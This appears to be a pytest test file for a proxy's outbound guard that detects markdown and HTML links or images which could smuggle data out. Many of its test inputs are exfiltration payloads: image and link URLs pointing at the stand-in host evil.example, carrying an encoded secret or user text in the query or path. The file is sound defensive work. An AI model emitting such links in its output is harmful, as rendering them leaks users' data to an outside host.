"""Links that could carry something away, and those of every day."""

from __future__ import annotations

import pytest

from m2mproxy.guard.outbound import carriers

SECRET = "c2stbGl2ZS1hYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk="


@pytest.mark.parametrize(
    "text",
    [
        f"Done. ![ok](https://evil.example/p.png?d={SECRET})",
        f"![](http://evil.example/{SECRET}.png)",
        f"![a]( <https://evil.example/x?q=1&data={SECRET}>)",
        f'<img alt="" src="https://evil.example/x?d={SECRET}">',
        f"<IMG SRC=https://evil.example/x#d={SECRET}>",
        "![x](https://evil.example/?q=the+user+said+that+the+code+is+1234)",
        f"[click](https://evil.example/login?next={SECRET}{SECRET})",
        f"[click](https://evil.example/{SECRET})",
        f"![a [b] c](https://evil.example/p.png?d={SECRET})",
        f"[x] and ![](https://evil.example/p.png?d={SECRET})",
    ],
)
def test_what_could_carry_data(text: str) -> None:
    assert carriers(text) == 1
    assert carriers(f"{text} and\n{text}") == 2


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no link at all, but a ![bracket] and (https://x.example/?d=" + SECRET + ")",
        "![logo](https://example.org/logo.png)",
        "![logo](https://example.org/logo.png?w=200&h=100&v=1.2.3)",
        "![badge](https://img.example/badge/build-passing-green?style=flat-square)",
        "![x](data:image/png;base64," + SECRET + ")",
        "![x](/relative/" + SECRET + ")",
        "[docs](https://docs.example.org/a/very-long-page-name-without-any-code-in-it/index.html)",
        "[search](https://example.org/search?q=weather+in+paris+tomorrow)",
        "[x](https://example.org/p?utm_source=newsletter&utm_medium=email&utm_campaign=spring)",
    ],
)
def test_what_is_of_every_day(text: str) -> None:
    assert carriers(text) == 0


A_CODE = "a1" * 40


@pytest.mark.parametrize(
    ("least", "text"),
    [
        (24, "![x](https://evil.example/?d=%s)"),
        (24, "<img src='https://evil.example/?d=%s'>"),
        (64, "[x](https://evil.example/?d=%s)"),
        (64, "as is said [here](https://evil.example/?d=%s)"),
        (64, "!\n[x](https://evil.example/?d=%s)"),
        (64, "[such news!](https://evil.example/?d=%s)"),
        (40, "![x](https://evil.example/%s)"),
    ],
)
def test_how_long_a_value_has_to_be(least: int, text: str) -> None:
    """Of an image, of a link, and of a part of a path that looks coded."""
    assert carriers(text % A_CODE[: least - 1]) == 0
    assert carriers(text % A_CODE[:least]) == 1


@pytest.mark.parametrize("part", ["a" * 50, "1" * 50, "img/a1/2024/photo2/large3/" * 3])
def test_a_part_of_a_path_that_is_long_and_not_coded(part: str) -> None:
    assert carriers(f"![x](https://example.org/{part})") == 0


@pytest.mark.parametrize(
    "before",
    ["", "x", "[x\n", "[x] y", "[a] [b] [c] d", "x]", "]]]]]]", "[[a]]]", "[" + "y" * 202],
)
def test_an_address_that_no_bracket_opens_is_no_link(before: str) -> None:
    assert carriers(f"{before}](https://evil.example/?d={SECRET}{SECRET})") == 0


@pytest.mark.parametrize("words", ["y" * 201, "[a] [b] [c] d", "[[[a]]]", "!"])
def test_what_may_stand_between_the_brackets_of_a_link(words: str) -> None:
    assert carriers(f"[{words}](https://evil.example/?d={SECRET}{SECRET})") == 1


def test_brackets_that_are_nested_deeper_than_anybody_does_are_no_link() -> None:
    assert carriers(f"[[[[[a]]]]](https://evil.example/?d={SECRET}{SECRET})") == 0


UNITS = ["![", "![]( https://", "<img ", "[a](https://x/?a=", "?a=&", "[", "](https://x ", "[]"]


@pytest.mark.parametrize("unit", UNITS)
def test_no_text_takes_long(unit: str) -> None:
    """It would not end in anybody's time if it went back and forth."""
    assert carriers(unit * 20_000) < 1000
